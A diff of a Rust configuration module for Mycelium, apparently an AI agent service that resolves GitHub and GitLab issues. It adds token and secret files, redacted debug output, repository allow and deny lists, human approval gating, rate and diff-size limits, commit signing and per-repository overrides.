@@ -1,32 +1,371 @@
 use serde::Deserialize;
-use std::path::PathBuf;
+use std::collections::HashMap;
+use std::path::{Path, PathBuf};
 
 use crate::error::{AppError, Result};
 
 #[derive(Debug, Deserialize, Clone)]
 pub struct AppConfig {
     pub server: ServerConfig,
+    /// Code host to work against. Default: github. GitLab support covers
+    /// issue events only; comments, merge request reviews and pipelines are
+    /// not acted on.
+    #[serde(default)]
+    pub platform: PlatformKind,
+    /// Labels, PR templates and other workflow settings apply to GitLab too;
+    /// only the credentials and API endpoints come from `[gitlab]`.
     pub github: GitHubConfig,
+    /// Required when `platform` is gitlab.
+    #[serde(default)]
+    pub gitlab: GitLabConfig,
     pub claude: ClaudeConfig,
     pub workspace: WorkspaceConfig,
     pub agent: AgentConfig,
+    #[serde(default)]
+    pub git: GitConfig,
+    #[serde(default)]
+    pub notifications: NotificationConfig,
+    /// Run agents but only log pushes, PRs, comments and label changes
+    /// instead of making them. Default: false.
+    #[serde(default)]
+    pub dry_run: bool,
 }
 
-#[derive(Debug, Deserialize, Clone)]
+/// Code host whose issues Mycelium resolves.
+#[derive(Debug, Default, Deserialize, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "lowercase")]
+pub enum PlatformKind {
+    /// GitHub or GitHub Enterprise, via a GitHub App or a token.
+    #[default]
+    GitHub,
+    /// GitLab or a self-managed instance, via an access token. Issue events only.
+    GitLab,
+}
+
+#[derive(Deserialize, Clone)]
 pub struct ServerConfig {
     #[serde(default = "default_host")]
     pub host: String,
     #[serde(default = "default_port")]
     pub port: u16,
+    /// Bearer token required for `GET /status`. Unauthenticated when unset.
+    #[serde(default)]
+    pub status_token: Option<String>,
+    /// Bearer token required for the `/admin` endpoints, which are only
+    /// served when it is set.
+    #[serde(default)]
+    pub admin_token: Option<String>,
+    /// Serve Prometheus metrics at `GET /metrics`. Default: false.
+    #[serde(default)]
+    pub metrics_enabled: bool,
+    /// Largest webhook body accepted; bigger requests get 413. Default: 5 MiB.
+    #[serde(default = "default_max_webhook_body_bytes")]
+    pub max_webhook_body_bytes: usize,
+    /// Log output format. Default: pretty.
+    #[serde(default)]
+    pub log_format: LogFormat,
+    /// SQLite file each task's outcome is recorded in, served at
+    /// `GET /history`. No history is kept when unset.
+    #[serde(default)]
+    pub history_path: Option<PathBuf>,
+}
+
+/// How log lines are written to stdout.
+#[derive(Debug, Default, Deserialize, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "lowercase")]
+pub enum LogFormat {
+    /// Human-readable lines, for local development.
+    #[default]
+    Pretty,
+    /// One JSON object per line with span fields, for log pipelines.
+    Json,
+}
+
+// Manual Debug impl to avoid leaking the status and admin tokens
+impl std::fmt::Debug for ServerConfig {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("ServerConfig")
+            .field("host", &self.host)
+            .field("port", &self.port)
+            .field(
+                "status_token",
+                &self.status_token.as_ref().map(|_| "[REDACTED]"),
+            )
+            .field(
+                "admin_token",
+                &self.admin_token.as_ref().map(|_| "[REDACTED]"),
+            )
+            .field("metrics_enabled", &self.metrics_enabled)
+            .field("max_webhook_body_bytes", &self.max_webhook_body_bytes)
+            .field("log_format", &self.log_format)
+            .field("history_path", &self.history_path)
+            .finish()
+    }
 }
 
 #[derive(Deserialize, Clone)]
 pub struct GitHubConfig {
-    pub app_id: u64,
-    pub private_key_path: PathBuf,
-    pub webhook_secret: String,
-    #[serde(default = "default_trigger_label")]
-    pub trigger_label: String,
+    /// GitHub App ID. Required unless `token` is set.
+    #[serde(default)]
+    pub app_id: Option<u64>,
+    /// GitHub App private key. Required unless `token` is set.
+    #[serde(default)]
+    pub private_key_path: Option<PathBuf>,
+    /// Personal access token to act with instead of a GitHub App, for trials
+    /// and single-user setups. Takes precedence over `app_id`. Prefer
+    /// `token_file` outside development.
+    #[serde(default)]
+    pub token: String,
+    /// Path to a file holding the personal access token. Read at load time
+    /// and used instead of `token`.
+    #[serde(default)]
+    pub token_file: Option<PathBuf>,
+    /// Inline webhook secret, or a list of secrets that are all accepted so
+    /// the secret can be rotated without rejecting deliveries. Prefer
+    /// `webhook_secret_file` outside development.
+    #[serde(default, deserialize_with = "deserialize_one_or_many")]
+    pub webhook_secret: Vec<String>,
+    /// Path to a file holding the webhook secret (e.g. a mounted k8s secret),
+    /// or one secret per line while rotating. Read at load time and used
+    /// instead of `webhook_secret`.
+    #[serde(default)]
+    pub webhook_secret_file: Option<PathBuf>,
+    /// Accept the legacy HMAC-SHA1 `X-Hub-Signature` header on deliveries
+    /// that lack `X-Hub-Signature-256`, for senders that can only sign with
+    /// SHA-1. Default: false.
+    #[serde(default)]
+    pub allow_sha1_signatures: bool,
+    /// Labels that trigger issue resolution: one label, or a list of aliases
+    /// such as `["mycelium", "ai-fix"]`. The first is the primary label, which
+    /// the derived `:research`, `:working`, `:done`, ... labels are named after.
+    #[serde(
+        rename = "trigger_label",
+        default = "default_trigger_labels",
+        deserialize_with = "deserialize_labels"
+    )]
+    pub trigger_labels: Vec<String>,
+    /// Label that moves an issue ahead of the queue. Default: `<trigger_label>:priority`.
+    #[serde(default)]
+    pub priority_label: Option<String>,
+    /// Branch PRs target instead of the repo default. An issue can override
+    /// this with a `Base-Branch: <name>` line in its body.
+    #[serde(default)]
+    pub base_branch: Option<String>,
+    /// Label applied when a run fails. Default: `<trigger_label>:failed`.
+    #[serde(default)]
+    pub failed_label: Option<String>,
+    /// Skip issues carrying the failed label during the startup scan; re-adding
+    /// the trigger label still retries them. Default: true.
+    #[serde(default = "default_scan_skip_failed")]
+    pub scan_skip_failed: bool,
+    /// Skip an issue that already has an open Mycelium PR, commenting with a
+    /// link instead of starting another run. When false, the run continues on
+    /// the PR's branch and pushes to it. Default: true.
+    #[serde(default = "default_skip_issues_with_open_pr")]
+    pub skip_issues_with_open_pr: bool,
+    /// Seconds between rescans for labeled issues, which catch webhooks that
+    /// were missed during an outage or restart. Default: 0 (startup scan only).
+    #[serde(default)]
+    pub rescan_interval_secs: u64,
+    /// Repositories queried at once during a scan; keeps large orgs fast
+    /// without bursting through the API rate limit. Default: 8.
+    #[serde(default = "default_scan_concurrency")]
+    pub scan_concurrency: usize,
+    /// Repositories Mycelium may act on, as `owner/repo` patterns where `*`
+    /// matches any run of characters. Empty allows every repository.
+    #[serde(default)]
+    pub allowed_repos: Vec<String>,
+    /// Repositories Mycelium never acts on; takes precedence over `allowed_repos`.
+    #[serde(default)]
+    pub denied_repos: Vec<String>,
+    /// REST API root, e.g. `https://ghe.example.com/api/v3` for GitHub
+    /// Enterprise Server. Default: `https://api.github.com`.
+    #[serde(default)]
+    pub base_url: Option<String>,
+    /// Users asked to review every PR Mycelium opens.
+    #[serde(default)]
+    pub default_reviewers: Vec<String>,
+    /// Also request reviews from the issue's assignees. Default: false.
+    #[serde(default)]
+    pub request_review_from_assignees: bool,
+    /// Open PRs as drafts. An issue can opt in individually with the
+    /// `<trigger_label>:draft` label. Default: false.
+    #[serde(default)]
+    pub open_as_draft: bool,
+    /// Hold finished changes for issues until a human approves them: the diff
+    /// is posted and the issue labelled `<trigger_label>:needs-approval`, and
+    /// nothing is pushed until `<trigger_label>:approved` is added. Default: false.
+    #[serde(default)]
+    pub require_approval: bool,
+    /// Close an issue as soon as its PR is opened, instead of leaving it to
+    /// the PR's `Resolves #N` on merge. Default: false.
+    #[serde(default)]
+    pub close_issue_on_done: bool,
+    /// Label an issue or PR `<trigger_label>:needs-split` when a run on it is
+    /// refused for exceeding `agent.max_diff_lines`. Default: false.
+    #[serde(default)]
+    pub label_needs_split: bool,
+    /// Title of PRs opened for an issue. Placeholders: `{issue_number}`,
+    /// `{issue_title}`, `{summary}`. Default: `Fix #{issue_number}: {issue_title}`.
+    #[serde(default = "default_pr_title_template")]
+    pub pr_title_template: String,
+    /// Body of PRs opened for an issue, with the same placeholders as
+    /// `pr_title_template`.
+    #[serde(default = "default_pr_body_template")]
+    pub pr_body_template: String,
+    /// Name of the branch an issue is resolved on. Placeholders:
+    /// `{issue_number}` (required) and `{issue_slug}`, the issue title
+    /// lowercased with other characters than letters and digits collapsed to
+    /// `-`. An issue whose title is edited gets a new branch if the slug is
+    /// used. Must start with `branch_prefix`. Default: `mycelium/issue-{issue_number}`.
+    #[serde(default = "default_branch_template")]
+    pub branch_template: String,
+    /// Prefix marking a PR's branch as Mycelium's: reviews, check failures
+    /// and comments are only acted on for PRs whose branch starts with it.
+    /// Default: `mycelium/`.
+    #[serde(default = "default_branch_prefix")]
+    pub branch_prefix: String,
+}
+
+/// How Mycelium authenticates to GitHub.
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub enum GitHubAuth<'a> {
+    /// As a GitHub App, minting a token per installation.
+    App {
+        app_id: u64,
+        private_key_path: &'a Path,
+    },
+    /// With a personal access token, used for every request.
+    Token(&'a str),
+}
+
+/// Placeholders available in `pr_title_template` and `pr_body_template`.
+const PR_TEMPLATE_PLACEHOLDERS: &[&str] = &["issue_number", "issue_title", "summary"];
+
+/// Placeholders available in `branch_template`.
+const BRANCH_TEMPLATE_PLACEHOLDERS: &[&str] = &["issue_number", "issue_slug"];
+
+/// Longest `{issue_slug}` rendered into a branch name.
+const MAX_ISSUE_SLUG_LEN: usize = 40;
+
+impl GitHubConfig {
+    /// The configured credentials: the token if set, otherwise the App's.
+    /// `None` if neither is complete.
+    pub fn auth(&self) -> Option<GitHubAuth<'_>> {
+        if !self.token.is_empty() {
+            return Some(GitHubAuth::Token(&self.token));
+        }
+        match (self.app_id, &self.private_key_path) {
+            (Some(app_id), Some(private_key_path)) => Some(GitHubAuth::App {
+                app_id,
+                private_key_path,
+            }),
+            _ => None,
+        }
+    }
+
+    /// The primary trigger label, which derived labels are named after.
+    pub fn trigger_label(&self) -> &str {
+        &self.trigger_labels[0]
+    }
+
+    /// Whether `label` is the trigger label or one of its aliases.
+    pub fn is_trigger_label(&self, label: &str) -> bool {
+        self.trigger_labels.iter().any(|l| l == label)
+    }
+
+    pub fn priority_label(&self) -> String {
+        self.priority_label
+            .clone()
+            .unwrap_or_else(|| format!("{}:priority", self.trigger_label()))
+    }
+
+    pub fn failed_label(&self) -> String {
+        self.failed_label
+            .clone()
+            .unwrap_or_else(|| format!("{}:failed", self.trigger_label()))
+    }
+
+    pub fn draft_label(&self) -> String {
+        format!("{}:draft", self.trigger_label())
+    }
+
+    pub fn plan_label(&self) -> String {
+        format!("{}:plan", self.trigger_label())
+    }
+
+    /// Marks an issue whose last run asked a question or found nothing to
+    /// change, so rescans leave it alone until a human acts on it.
+    pub fn needs_info_label(&self) -> String {
+        format!("{}:needs-info", self.trigger_label())
+    }
+
+    pub fn needs_approval_label(&self) -> String {
+        format!("{}:needs-approval", self.trigger_label())
+    }
+
+    pub fn approved_label(&self) -> String {
+        format!("{}:approved", self.trigger_label())
+    }
+
+    pub fn needs_split_label(&self) -> String {
+        format!("{}:needs-split", self.trigger_label())
+    }
+
+    /// Reviewers to request on a new PR for an issue with these assignees,
+    /// without duplicates.
+    pub fn reviewers_for(&self, assignees: &[String]) -> Vec<String> {
+        let mut reviewers: Vec<String> = Vec::new();
+        let assignees = if self.request_review_from_assignees {
+            assignees
+        } else {
+            &[]
+        };
+        for login in self.default_reviewers.iter().chain(assignees) {
+            if !reviewers.iter().any(|r| r.eq_ignore_ascii_case(login)) {
+                reviewers.push(login.clone());
+            }
+        }
+        reviewers
+    }
+
+    /// Render the PR title for an issue from `pr_title_template`.
+    pub fn pr_title(&self, issue_number: u64, issue_title: &str, summary: &str) -> String {
+        render_pr_template(&self.pr_title_template, issue_number, issue_title, summary)
+    }
+
+    /// Render the PR body for an issue from `pr_body_template`.
+    pub fn pr_body(&self, issue_number: u64, issue_title: &str, summary: &str) -> String {
+        render_pr_template(&self.pr_body_template, issue_number, issue_title, summary)
+    }
+
+    /// Name of the branch Mycelium works on for an issue, from `branch_template`.
+    pub fn issue_branch(&self, issue_number: u64, issue_title: &str) -> String {
+        render_template(
+            &self.branch_template,
+            &[
+                ("issue_number", &issue_number.to_string()),
+                ("issue_slug", &issue_slug(issue_title)),
+            ],
+        )
+    }
+
+    /// Whether `branch` is one Mycelium opened a PR from.
+    pub fn is_mycelium_branch(&self, branch: &str) -> bool {
+        branch.starts_with(&self.branch_prefix)
+    }
+
+    /// The issue an issue branch was named after, if `branch` is one.
+    pub fn issue_number_from_branch(&self, branch: &str) -> Option<u64> {
+        match_branch_template(&self.branch_template, branch).flatten()
+    }
+
+    /// Whether events and scans for `repo_full_name` should be handled.
+    pub fn is_repo_allowed(&self, repo_full_name: &str) -> bool {
+        let matches = |patterns: &[String]| patterns.iter().any(|p| glob_match(p, repo_full_name));
+        !matches(&self.denied_repos)
+            && (self.allowed_repos.is_empty() || matches(&self.allowed_repos))
+    }
 }
 
 // Manual Debug impl to avoid leaking the webhook secret
@@ -35,15 +374,97 @@ impl std::fmt::Debug for GitHubConfig {
         f.debug_struct("GitHubConfig")
             .field("app_id", &self.app_id)
             .field("private_key_path", &self.private_key_path)
+            .field("token", &"[REDACTED]")
+            .field("token_file", &self.token_file)
             .field("webhook_secret", &"[REDACTED]")
-            .field("trigger_label", &self.trigger_label)
+            .field("webhook_secret_file", &self.webhook_secret_file)
+            .field("allow_sha1_signatures", &self.allow_sha1_signatures)
+            .field("trigger_label", &self.trigger_labels)
+            .field("priority_label", &self.priority_label)
+            .field("base_branch", &self.base_branch)
+            .field("failed_label", &self.failed_label)
+            .field("scan_skip_failed", &self.scan_skip_failed)
+            .field("skip_issues_with_open_pr", &self.skip_issues_with_open_pr)
+            .field("rescan_interval_secs", &self.rescan_interval_secs)
+            .field("scan_concurrency", &self.scan_concurrency)
+            .field("allowed_repos", &self.allowed_repos)
+            .field("denied_repos", &self.denied_repos)
+            .field("base_url", &self.base_url)
+            .field("default_reviewers", &self.default_reviewers)
+            .field(
+                "request_review_from_assignees",
+                &self.request_review_from_assignees,
+            )
+            .field("open_as_draft", &self.open_as_draft)
+            .field("require_approval", &self.require_approval)
+            .field("close_issue_on_done", &self.close_issue_on_done)
+            .field("label_needs_split", &self.label_needs_split)
+            .field("pr_title_template", &self.pr_title_template)
+            .field("pr_body_template", &self.pr_body_template)
+            .field("branch_template", &self.branch_template)
+            .field("branch_prefix", &self.branch_prefix)
+            .finish()
+    }
+}
+
+#[derive(Deserialize, Clone)]
+pub struct GitLabConfig {
+    /// REST API root, e.g. `https://gitlab.example.com/api/v4` for a
+    /// self-managed instance. Default: `https://gitlab.com/api/v4`.
+    #[serde(default = "default_gitlab_base_url")]
+    pub base_url: String,
+    /// Personal, group or project access token with the `api` scope (the
+    /// Developer role or above, to push branches). Prefer `token_file`
+    /// outside development.
+    #[serde(default)]
+    pub token: String,
+    /// Path to a file holding the access token. Read at load time and used
+    /// instead of `token`.
+    #[serde(default)]
+    pub token_file: Option<PathBuf>,
+    /// Secret token set on the project or group webhook, which GitLab sends
+    /// back in `X-Gitlab-Token`.
+    #[serde(default)]
+    pub webhook_secret: String,
+    /// Path to a file holding the webhook secret token.
+    #[serde(default)]
+    pub webhook_secret_file: Option<PathBuf>,
+}
+
+impl Default for GitLabConfig {
+    fn default() -> Self {
+        Self {
+            base_url: default_gitlab_base_url(),
+            token: String::new(),
+            token_file: None,
+            webhook_secret: String::new(),
+            webhook_secret_file: None,
+        }
+    }
+}
+
+// Manual Debug impl to avoid leaking the token and webhook secret
+impl std::fmt::Debug for GitLabConfig {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("GitLabConfig")
+            .field("base_url", &self.base_url)
+            .field("token", &"[REDACTED]")
+            .field("token_file", &self.token_file)
+            .field("webhook_secret", &"[REDACTED]")
+            .field("webhook_secret_file", &self.webhook_secret_file)
             .finish()
     }
 }
 
 #[derive(Deserialize, Clone)]
 pub struct ClaudeConfig {
+    /// Inline API key. Prefer `api_key_file` outside development.
+    #[serde(default)]
     pub api_key: String,
+    /// Path to a file holding the API key. Read at load time and used instead
+    /// of `api_key`.
+    #[serde(default)]
+    pub api_key_file: Option<PathBuf>,
     #[serde(default = "default_model")]
     pub model: String,
     #[serde(default = "default_max_tokens")]
@@ -56,9 +477,28 @@ pub struct ClaudeConfig {
     /// Max retries on rate limit before giving up. Default: 5.
     #[serde(default = "default_rate_limit_max_retries")]
     pub rate_limit_max_retries: u32,
-    /// Initial backoff in seconds on rate limit (doubles each retry). Default: 15.
+    /// Initial backoff in seconds on rate limit (doubles each retry, plus
+    /// jitter). A `retry-after` sent with the 429 takes precedence. Default: 15.
     #[serde(default = "default_rate_limit_backoff_secs")]
     pub rate_limit_backoff_secs: u64,
+    /// Sampling temperature (0.0-1.0). Unset leaves the API default.
+    #[serde(default)]
+    pub temperature: Option<f32>,
+    /// Nucleus sampling cutoff (0.0-1.0). Unset leaves the API default.
+    #[serde(default)]
+    pub top_p: Option<f32>,
+    /// Strings that end a response early when generated. Default: none.
+    #[serde(default)]
+    pub stop_sequences: Vec<String>,
+    /// Directory to write a JSON Lines transcript of every agent run's
+    /// requests and responses to, for replaying in tests. Transcripts hold
+    /// prompts and repository content. Default: unset (not recorded).
+    #[serde(default)]
+    pub record_dir: Option<PathBuf>,
+    /// Models an issue may select with a `<trigger_label>:model=<alias>` label,
+    /// as alias -> model ID. Labels naming any other alias are ignored.
+    #[serde(default)]
+    pub allowed_models: HashMap<String, String>,
 }
 
 // Manual Debug impl to avoid leaking the API key
@@ -66,12 +506,57 @@ impl std::fmt::Debug for ClaudeConfig {
     fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
         f.debug_struct("ClaudeConfig")
             .field("api_key", &"[REDACTED]")
+            .field("api_key_file", &self.api_key_file)
             .field("model", &self.model)
             .field("max_tokens", &self.max_tokens)
             .field("max_turns", &self.max_turns)
             .field("rate_limit_retry", &self.rate_limit_retry)
             .field("rate_limit_max_retries", &self.rate_limit_max_retries)
             .field("rate_limit_backoff_secs", &self.rate_limit_backoff_secs)
+            .field("temperature", &self.temperature)
+            .field("top_p", &self.top_p)
+            .field("stop_sequences", &self.stop_sequences)
+            .field("record_dir", &self.record_dir)
+            .field("allowed_models", &self.allowed_models)
+            .finish()
+    }
+}
+
+#[derive(Deserialize, Clone)]
+pub struct NotificationConfig {
+    /// URL that receives a JSON POST when a task finishes (or fails for
+    /// good). Notifications are off when unset.
+    #[serde(default)]
+    pub webhook_url: Option<String>,
+    /// Send a Slack incoming-webhook message (`{"text": ...}`) instead of the
+    /// full JSON payload. Default: false.
+    #[serde(default)]
+    pub slack: bool,
+    /// Give up on a notification after this many seconds. Default: 5.
+    #[serde(default = "default_notification_timeout_secs")]
+    pub timeout_secs: u64,
+}
+
+impl Default for NotificationConfig {
+    fn default() -> Self {
+        Self {
+            webhook_url: None,
+            slack: false,
+            timeout_secs: default_notification_timeout_secs(),
+        }
+    }
+}
+
+// Manual Debug impl: webhook URLs (e.g. Slack's) embed their credentials
+impl std::fmt::Debug for NotificationConfig {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("NotificationConfig")
+            .field(
+                "webhook_url",
+                &self.webhook_url.as_ref().map(|_| "[REDACTED]"),
+            )
+            .field("slack", &self.slack)
+            .field("timeout_secs", &self.timeout_secs)
             .finish()
     }
 }
@@ -80,6 +565,33 @@ impl std::fmt::Debug for ClaudeConfig {
 pub struct WorkspaceConfig {
     #[serde(default = "default_workspace_dir")]
     pub base_dir: PathBuf,
+    /// Keep a bare mirror per repo under `base_dir/.cache` and clone workspaces
+    /// from it after an incremental fetch. Default: true.
+    #[serde(default = "default_cache_clones")]
+    pub cache_clones: bool,
+    /// Leave the workspace of a failed run on disk for inspection. Default: false.
+    #[serde(default)]
+    pub keep_on_failure: bool,
+    /// Workspaces left in `base_dir` (kept failures, or runs interrupted by a
+    /// crash) are deleted on startup once older than this. Default: 7 days.
+    #[serde(default = "default_stale_workspace_ttl_secs")]
+    pub stale_workspace_ttl_secs: u64,
+    /// File that running and queued tasks are saved to on shutdown and
+    /// restored from on startup. Default: `base_dir/.pending-tasks.json`.
+    #[serde(default)]
+    pub pending_tasks_file: Option<PathBuf>,
+    /// Clones and mirror fetches running at once across all tasks, bounded
+    /// separately from `agent.max_concurrent_runs`. Default: 2.
+    #[serde(default = "default_max_concurrent_clones")]
+    pub max_concurrent_clones: usize,
+}
+
+impl WorkspaceConfig {
+    pub fn pending_tasks_file(&self) -> PathBuf {
+        self.pending_tasks_file
+            .clone()
+            .unwrap_or_else(|| self.base_dir.join(".pending-tasks.json"))
+    }
 }
 
 #[derive(Debug, Deserialize, Clone)]
@@ -88,6 +600,183 @@ pub struct AgentConfig {
     pub max_file_size_bytes: usize,
     #[serde(default = "default_max_search_results")]
     pub max_search_results: usize,
+    /// Maximum number of agent runs executing at once across all repos. Default: 4.
+    #[serde(default = "default_max_concurrent_runs")]
+    pub max_concurrent_runs: usize,
+    /// Times a task failing with a transient error is re-enqueued. Default: 3.
+    #[serde(default = "default_task_max_retries")]
+    pub task_max_retries: u32,
+    /// Initial delay in seconds before re-enqueueing (doubles each retry). Default: 30.
+    #[serde(default = "default_task_retry_backoff_secs")]
+    pub task_retry_backoff_secs: u64,
+    /// Upper bound on the retry delay in seconds. Default: 600.
+    #[serde(default = "default_task_retry_max_backoff_secs")]
+    pub task_retry_max_backoff_secs: u64,
+    /// Seconds to collect further review comments on a PR after the first
+    /// one, so a burst of comments becomes one run. 0 starts a run per
+    /// comment. Default: 10.
+    #[serde(default = "default_comment_debounce_secs")]
+    pub comment_debounce_secs: u64,
+    /// Wall-clock limit in seconds for an issue, review or CI-fix run. A run
+    /// still going is stopped, reported on the issue or PR and cleaned up.
+    /// 0 disables the limit. Default: 0.
+    #[serde(default)]
+    pub task_timeout_secs: u64,
+    /// New tasks accepted per repository in any rolling hour; further ones
+    /// are dropped with a warning. Duplicates merged into a pending task and
+    /// retries don't count. 0 disables the limit. Default: 0.
+    #[serde(default)]
+    pub max_tasks_per_repo_per_hour: u32,
+    /// Comment on the issue or PR when its task is dropped by
+    /// `max_tasks_per_repo_per_hour`. Default: false.
+    #[serde(default)]
+    pub comment_when_rate_limited: bool,
+    /// Most files a single run may change. A run over the limit pushes
+    /// nothing and lists the files it touched instead, which catches runs
+    /// that e.g. reformat the whole repository. 0 disables the limit. Default: 0.
+    #[serde(default)]
+    pub max_changed_files: usize,
+    /// Most lines a single run may add and remove in total. A run over the
+    /// limit pushes nothing and posts its summary with a warning instead, as
+    /// a diff that size can't be reviewed. 0 disables the limit. Default: 0.
+    #[serde(default)]
+    pub max_diff_lines: usize,
+    /// Shell command run in the workspace before committing (e.g. `cargo fmt`).
+    /// Failures are logged and ignored.
+    #[serde(default)]
+    pub format_command: Option<String>,
+    /// Shell command run on a checkout of a Mycelium PR when it is opened or
+    /// pushed to; the pass/fail result is posted on the PR. Unset disables
+    /// validation.
+    #[serde(default)]
+    pub test_command: Option<String>,
+    /// Times Mycelium tries to fix failing CI on one of its PRs before leaving
+    /// it to a human. 0 disables CI fixes. Default: 3.
+    #[serde(default = "default_max_check_fix_attempts")]
+    pub max_check_fix_attempts: u32,
+    /// Files in the repo root whose contents are given to the agent as project
+    /// guidelines; the first one present is used. Default: AGENTS.md, CONTRIBUTING.md.
+    #[serde(default = "default_guidelines_files")]
+    pub guidelines_files: Vec<String>,
+    /// Issue comments included in the prompt. On longer discussions the
+    /// oldest and newest are kept and the middle is omitted. Default: 200.
+    #[serde(default = "default_max_issue_comments")]
+    pub max_issue_comments: usize,
+    /// Edit a progress comment on the issue every this many agent turns.
+    /// 0 disables turn-based updates. Default: 0.
+    #[serde(default)]
+    pub progress_update_turns: u32,
+    /// Edit a progress comment on the issue when this many seconds have passed
+    /// since the last update. 0 disables time-based updates. Default: 0.
+    #[serde(default)]
+    pub progress_update_secs: u64,
+    /// Have the agent post its intended approach on the issue before changing
+    /// any code, then carry on without waiting for a reply. An issue can opt
+    /// in individually with the `<trigger_label>:plan` label. Default: false.
+    #[serde(default)]
+    pub post_plan: bool,
+    /// Log lines of a failed run appended, collapsed, to its failure comment.
+    /// The comment is visible to anyone who can see the issue or PR. 0
+    /// disables capturing. Default: 0.
+    #[serde(default)]
+    pub failure_log_lines: usize,
+    /// Glob patterns for files the agent's tools may not read, write, create
+    /// or delete, e.g. credentials. See `DeniedPaths` for the syntax.
+    #[serde(default = "default_denied_paths")]
+    pub denied_paths: Vec<String>,
+    /// Directory names `search_code`, `list_directory`, the prompt's file tree
+    /// and language detection skip at any depth, on top of the built-in ones
+    /// (`.git`, `node_modules`, `target`, ...), e.g. large generated output.
+    /// Paths in the repo's `.gitignore` are skipped regardless.
+    #[serde(default)]
+    pub search_exclude_dirs: Vec<String>,
+}
+
+#[derive(Debug, Deserialize, Clone)]
+pub struct GitConfig {
+    /// Name used as commit author and committer.
+    #[serde(default = "default_author_name")]
+    pub author_name: String,
+    /// Email used as commit author and committer.
+    #[serde(default = "default_author_email")]
+    pub author_email: String,
+    /// Key commits are signed with: a private key path for `ssh`, or a key ID
+    /// for `gpg`. Commits are unsigned when unset.
+    #[serde(default)]
+    pub signing_key: Option<String>,
+    /// How `signing_key` is used. Default: ssh.
+    #[serde(default)]
+    pub signing_format: SigningFormat,
+}
+
+impl Default for GitConfig {
+    fn default() -> Self {
+        Self {
+            author_name: default_author_name(),
+            author_email: default_author_email(),
+            signing_key: None,
+            signing_format: SigningFormat::default(),
+        }
+    }
+}
+
+/// Commit signature format, matching git's `gpg.format`.
+#[derive(Debug, Default, Deserialize, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "lowercase")]
+pub enum SigningFormat {
+    /// Sign with `ssh-keygen -Y sign`.
+    #[default]
+    Ssh,
+    /// Sign with `gpg --detach-sign`.
+    Gpg,
+}
+
+/// Per-repository overrides read from a `.mycelium.toml` committed at the
+/// repo root. Values set here take precedence over the global config for runs
+/// on that repo. Only settings that are safe to hand to repository
+/// contributors are recognised; server-side settings such as
+/// `agent.format_command` are always taken from the global config.
+#[derive(Debug, Default, Deserialize, Clone)]
+pub struct RepoConfig {
+    #[serde(default)]
+    pub claude: RepoClaudeConfig,
+    #[serde(default)]
+    pub agent: RepoAgentConfig,
+    #[serde(default)]
+    pub github: RepoGitHubConfig,
+}
+
+#[derive(Debug, Default, Deserialize, Clone)]
+pub struct RepoClaudeConfig {
+    pub model: Option<String>,
+    pub max_tokens: Option<u32>,
+    pub max_turns: Option<u32>,
+}
+
+#[derive(Debug, Default, Deserialize, Clone)]
+pub struct RepoAgentConfig {
+    pub max_file_size_bytes: Option<usize>,
+    pub max_search_results: Option<usize>,
+}
+
+#[derive(Debug, Default, Deserialize, Clone)]
+pub struct RepoGitHubConfig {
+    pub base_branch: Option<String>,
+    pub pr_title_template: Option<String>,
+    pub pr_body_template: Option<String>,
+}
+
+impl RepoConfig {
+    /// File name looked up in the workspace root.
+    pub const FILE_NAME: &'static str = ".mycelium.toml";
+
+    pub fn from_toml(contents: &str) -> Result<Self> {
+        config::Config::builder()
+            .add_source(config::File::from_str(contents, config::FileFormat::Toml))
+            .build()
+            .and_then(|c| c.try_deserialize())
+            .map_err(|e| AppError::Config(format!("{}: {e}", Self::FILE_NAME)))
+    }
 }
 
 fn default_host() -> String {
@@ -98,8 +787,56 @@ fn default_port() -> u16 {
     3000
 }
 
-fn default_trigger_label() -> String {
-    "mycelium".to_string()
+fn default_max_webhook_body_bytes() -> usize {
+    5 * 1024 * 1024
+}
+
+fn default_trigger_labels() -> Vec<String> {
+    vec!["mycelium".to_string()]
+}
+
+/// Accept either a single string or a list of strings.
+fn deserialize_one_or_many<'de, D>(deserializer: D) -> std::result::Result<Vec<String>, D::Error>
+where
+    D: serde::Deserializer<'de>,
+{
+    #[derive(Deserialize)]
+    #[serde(untagged)]
+    enum OneOrMany {
+        One(String),
+        Many(Vec<String>),
+    }
+
+    Ok(match OneOrMany::deserialize(deserializer)? {
+        OneOrMany::One(value) => vec![value],
+        OneOrMany::Many(values) => values,
+    })
+}
+
+/// Accept either a single label or a non-empty list of labels.
+fn deserialize_labels<'de, D>(deserializer: D) -> std::result::Result<Vec<String>, D::Error>
+where
+    D: serde::Deserializer<'de>,
+{
+    let labels = deserialize_one_or_many(deserializer)?;
+    if labels.is_empty() {
+        return Err(serde::de::Error::custom(
+            "trigger_label must name at least one label",
+        ));
+    }
+    Ok(labels)
+}
+
+fn default_scan_skip_failed() -> bool {
+    true
+}
+
+fn default_skip_issues_with_open_pr() -> bool {
+    true
+}
+
+fn default_scan_concurrency() -> usize {
+    8
 }
 
 fn default_model() -> String {
@@ -130,14 +867,107 @@ fn default_workspace_dir() -> PathBuf {
     PathBuf::from("/tmp/mycelium-workspaces")
 }
 
+fn default_cache_clones() -> bool {
+    true
+}
+
+fn default_stale_workspace_ttl_secs() -> u64 {
+    7 * 24 * 60 * 60
+}
+
+fn default_max_concurrent_clones() -> usize {
+    2
+}
+
+fn default_author_name() -> String {
+    "Mycelium Bot".to_string()
+}
+
+fn default_author_email() -> String {
+    "mycelium[bot]@users.noreply.github.com".to_string()
+}
+
 fn default_max_file_size() -> usize {
     512 * 1024 // 512 KB
 }
 
+fn default_gitlab_base_url() -> String {
+    "https://gitlab.com/api/v4".to_string()
+}
+
 fn default_max_search_results() -> usize {
     50
 }
 
+fn default_max_concurrent_runs() -> usize {
+    4
+}
+
+fn default_task_max_retries() -> u32 {
+    3
+}
+
+fn default_task_retry_backoff_secs() -> u64 {
+    30
+}
+
+fn default_task_retry_max_backoff_secs() -> u64 {
+    600
+}
+
+fn default_comment_debounce_secs() -> u64 {
+    10
+}
+
+fn default_max_check_fix_attempts() -> u32 {
+    3
+}
+
